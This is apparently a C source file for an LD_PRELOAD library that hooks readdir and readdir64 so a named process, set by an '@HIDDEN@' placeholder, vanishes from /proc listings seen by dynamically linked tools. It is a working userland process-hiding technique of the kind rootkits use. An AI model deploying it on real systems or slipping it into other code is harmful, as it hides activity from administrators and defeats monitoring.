/* A library for LD_PRELOAD that leaves one process out of lists of /proc: programs that are linked with the C library at run time,
 * and list what is there by readdir, do not see it. Programs that are complete in themselves do, and so does whoever asks for the
 * number of the process itself.
 *
 * Inert: it changes what its own program is told, and nothing else anywhere.
 *
 *   HIDDEN  the short name of the process, as /proc/PID/comm has it
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

char HIDDEN[16] = "@HIDDEN@";

static int is_hidden(const char *number)
{
	char path[64], comm[32];
	int file;
	ssize_t got;

	if (*number < '1' || *number > '9' || strlen(number) > 10)
		return 0;
	snprintf(path, sizeof path, "/proc/%s/comm", number);
	file = open(path, O_RDONLY | O_CLOEXEC);
	if (file < 0)
		return 0;
	got = read(file, comm, sizeof comm - 1);
	close(file);
	comm[got > 0 ? got : 0] = 0;
	comm[strcspn(comm, "\n")] = 0;
	return !strcmp(comm, HIDDEN);
}

static int is_list_of_processes(DIR *folder)
{
	char link[64], path[16];
	ssize_t got;

	snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd(folder));
	got = readlink(link, path, sizeof path - 1);
	path[got > 0 ? got : 0] = 0;
	return !strcmp(path, "/proc");
}

#define SEEN __attribute__((visibility("default")))

SEEN struct dirent *readdir(DIR *folder)
{
	static struct dirent *(*real)(DIR *);
	struct dirent *each;

	if (!real)
		real = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
	do
		each = real(folder);
	while (each && is_hidden(each->d_name) && is_list_of_processes(folder));
	return each;
}

SEEN struct dirent64 *readdir64(DIR *folder)
{
	return (struct dirent64 *)readdir(folder);
}
